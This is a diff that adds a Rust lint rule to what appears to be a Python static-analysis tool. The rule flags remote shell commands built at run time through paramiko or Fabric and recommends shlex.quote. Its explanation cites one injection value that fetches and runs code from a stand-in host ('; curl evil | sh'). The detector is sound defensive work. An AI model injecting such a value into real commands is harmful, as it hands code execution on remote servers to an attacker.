@@ -1,0 +1,121 @@
+use super::commands::is_quoted;
+use crate::checker::Checker;
+use crate::declare_rule;
+use crate::helpers::{in_module, method_name, origin};
+use crate::rule::Category;
+use vigil_python::Ranged;
+use vigil_python::ast::ExprCall;
+use vigil_report::{Confidence, Severity};
+
+const SSH_CLIENTS: &[&str] = &["paramiko.SSHClient", "paramiko.client.SSHClient"];
+const FABRIC_CONNECTIONS: &[&str] = &[
+    "fabric.Connection",
+    "fabric.connection.Connection",
+    "fabric.SerialGroup",
+    "fabric.ThreadingGroup",
+    "fabric.group.SerialGroup",
+    "fabric.group.ThreadingGroup",
+];
+/// Fabric 1 functions that run their command through the remote shell.
+const FABRIC_FUNCTIONS: &[&str] = &[
+    "fabric.api.run",
+    "fabric.api.sudo",
+    "fabric.operations.run",
+    "fabric.operations.sudo",
+];
+
+fn check(checker: &mut Checker, call: &ExprCall, qualified: Option<&str>) {
+    let receiver = |checker: &Checker, names: &[&str]| match call.func.as_ref() {
+        vigil_python::ast::Expr::Attribute(attribute) => origin(checker, &attribute.value)
+            .and_then(|o| o.callee)
+            .is_some_and(|callee| names.contains(&callee.as_str())),
+        _ => false,
+    };
+    let confidence = if qualified.is_some_and(|q| FABRIC_FUNCTIONS.contains(&q)) {
+        Confidence::High
+    } else {
+        match method_name(call) {
+            Some("exec_command") if receiver(checker, SSH_CLIENTS) => Confidence::High,
+            // Bandit's heuristic: a module that imports paramiko and calls
+            // `exec_command` on something.
+            Some("exec_command")
+                if checker
+                    .semantic
+                    .imported_names()
+                    .any(|name| in_module(name, "paramiko")) =>
+            {
+                Confidence::Medium
+            }
+            Some("run" | "sudo") if receiver(checker, FABRIC_CONNECTIONS) => Confidence::High,
+            _ => return,
+        }
+    };
+    let Some(command) = call.arguments.find_argument_value("command", 0) else {
+        return;
+    };
+    let callee = checker.snippet(&*call.func);
+    if is_quoted(checker, command) {
+        let message = if checker.is_constant(command) {
+            format!(
+                "`{callee}` runs a fixed command through the remote host's shell: check what it does there"
+            )
+        } else {
+            format!(
+                "`{callee}` runs a command through the remote host's shell; its dynamic parts are quoted with `shlex.quote()`, check that each one is"
+            )
+        };
+        checker
+            .report(&RULE, call.range(), message)
+            .audit_only()
+            .severity(Severity::Low)
+            .confidence(confidence);
+    } else {
+        let message = format!(
+            "`{callee}` runs a command built at run time through the remote host's shell: shell metacharacters in it are executed there"
+        );
+        checker
+            .report(&RULE, call.range(), message)
+            .confidence(confidence);
+    }
+}
+
+declare_rule! {
+    /// ## What it does
+    /// Flags commands built at run time and run on another machine over
+    /// SSH: paramiko's `SSHClient.exec_command`, Fabric's `Connection.run`
+    /// and `.sudo`, and Fabric 1's `run` and `sudo`. Fixed commands are
+    /// listed in `--audit` mode.
+    ///
+    /// ## Why is this bad?
+    /// The command string is handed to the login shell of the remote
+    /// account, which parses it like `os.system` would. A host name, file
+    /// name or user name pasted into it can end the command and start
+    /// another (`; curl evil | sh`), with that account's rights on that
+    /// machine, often a server that trusts this one.
+    ///
+    /// ## Example
+    /// ```python
+    /// client.exec_command(f"tail -n 100 /var/log/{service}.log")
+    /// ```
+    ///
+    /// ## Use instead
+    /// Validate values against a strict pattern or a list of allowed
+    /// values, and quote each one for the remote shell:
+    /// ```python
+    /// client.exec_command(f"tail -n 100 /var/log/{shlex.quote(service)}.log")
+    /// ```
+    ///
+    /// ## References
+    /// - CWE-78: Improper Neutralization of Special Elements used in an OS Command
+    pub static RULE = {
+        name: "remote-shell-command",
+        category: Category::Injection,
+        cwe: &[78],
+        severity: Severity::High,
+        confidence: Confidence::High,
+        bandit: &["B601"],
+        ruff: &["S601"],
+        help: "Do not paste data into remote commands: validate it against an allow-list and quote it with `shlex.quote()`.",
+        on_call: check,
+    };
+}
